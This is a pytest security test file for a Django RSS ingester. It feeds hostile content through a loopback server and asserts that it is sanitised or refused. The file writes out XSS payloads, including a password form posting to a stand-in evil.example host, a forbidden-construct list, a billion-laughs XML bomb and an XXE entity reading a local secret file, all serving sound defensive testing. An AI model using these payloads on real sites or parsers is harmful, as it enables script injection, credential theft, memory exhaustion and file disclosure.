"""Feeds written by an attacker, over real HTTP from a loopback server: markup that would run in
a reader's browser, and XML that would exhaust memory or read the server's files."""

import resource
from html import escape

import pytest

from articles.ingest import feeds
from articles.models import Article, Source
from tests.articles.samples import PARAGRAPHS, article_page, rss
from tests.factories import SourceFactory

pytestmark = pytest.mark.django_db

# Every construct a page must never carry from a source, in the feed's content and on its page.
PAYLOADS = [
    "<script>alert('script')</script>",
    '<img src="x" onerror="alert(\'onerror\')">',
    "<p onmouseover=\"alert('handler')\">Genk domineert</p>",
    "<a href=\"javascript:alert('js-link')\">klik hier</a>",
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">bekijk</a>',
    "<svg><script>alert('svg')</script><circle onload=\"alert('svg-load')\"/></svg>",
    "<p style=\"width: expression(alert('css'))\">Westerlo verdedigt</p>",
    '<iframe src="https://evil.example/frame"></iframe>',
    '<form action="https://evil.example/steal"><input name="wachtwoord"></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/y">',
    '<base href="https://evil.example/">',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('mxss')></style></mglyph></table></mtext></math>",
]
FORBIDDEN = [
    "<script", "onerror", "onmouseover", "onload", "javascript:", "data:text", "expression(", "<iframe",
    "<form", "<input", "<meta", "<object", "<embed", "<base", "<svg", "<style", "evil.example",
]  # fmt: skip


def hostile_text(label):
    return f"<p>{label}: KRC Genk wint met 2-0 van KVC Westerlo.</p>" + "".join(PAYLOADS)


def assert_clean(html):
    lowered = html.lower()
    for construct in FORBIDDEN:
        assert construct not in lowered, construct


def test_payloads_in_feed_content_and_pages_never_reach_stored_or_rendered_html(feed_server, client):
    second = f"<p>{escape(PARAGRAPHS[1])}</p>"
    html = article_page("Genk wint").replace(second, second + "".join(PAYLOADS), 1)
    page = feed_server.route("/voetbal/genk", html)
    feed_server.route(
        "/feed.xml",
        rss(
            [
                {"title": "Genk<script>alert(1)</script>", "link": "https://a.ex/1", "content": hostile_text("feed")},
                {"title": "Genk wint <img src=x onerror=alert(2)>", "link": page, "summary": "".join(PAYLOADS)},
            ]
        ),
    )  # fmt: skip
    feeds.fetch_and_ingest(SourceFactory(feed_url=feed_server.url("/feed.xml")))
    articles = list(Article.objects.all())
    assert len(articles) == 2
    for article in articles:
        assert_clean(article.body_html)
        assert "<" not in article.title and "<" not in article.teaser  # plain text, escaped when shown
        rendered = client.get(article.get_absolute_url()).content.decode()
        assert_clean(rendered.split("<main", 1)[1])


BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE rss [
  <!ENTITY lol "lollollollollollollollollollol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<rss version="2.0"><channel><title>Bom</title><link>https://bom.example/</link>
<item><title>Genk &lol9;</title><link>https://bom.example/1</link><description>&lol9;</description></item>
</channel></rss>"""


def test_entity_expansion_is_refused_and_memory_stays_bounded(feed_server):
    """A billion laughs: 10^9 'lol's (3 GB) if the entities were expanded."""
    feed_server.route("/bom.xml", BILLION_LAUGHS)
    source = SourceFactory(feed_url=feed_server.url("/bom.xml"))
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    feeds.fetch_and_ingest(source)
    grown_mb = (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) / 1024
    assert grown_mb < 100
    for article in Article.objects.all():
        assert "lollollol" * 1000 not in article.title + article.body
    source.refresh_from_db()
    assert source.last_error or not Article.objects.filter(body__contains="lollollol" * 100).exists()


def test_external_entities_are_never_read_nor_fetched(feed_server, tmp_path):
    secret = tmp_path / "geheim.txt"
    secret.write_text("WACHTWOORD-VAN-DE-SERVER")
    fetched = feed_server.url("/stiekem.dtd")
    feed_server.route("/stiekem.dtd", '<!ENTITY remote "OPGEHAALD-VAN-BUITEN">')
    feed_server.route(
        "/xxe.xml",
        f"""<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY secret SYSTEM "file://{secret}"> <!ENTITY % dtd SYSTEM "{fetched}"> %dtd;]>
<rss version="2.0"><channel><title>XXE</title><link>https://xxe.example/</link>
<item><title>Genk &secret;</title><link>https://xxe.example/1</link>
<description>Genk wint. &secret; &remote;</description></item></channel></rss>""",
    )
    feeds.fetch_and_ingest(SourceFactory(feed_url=feed_server.url("/xxe.xml")))
    for article in Article.objects.all():
        assert "WACHTWOORD" not in article.title + article.body + article.body_html
        assert "OPGEHAALD" not in article.title + article.body + article.body_html
    assert "/stiekem.dtd" not in [path for path, _ in feed_server.requests]
    assert Source.objects.count() == 1
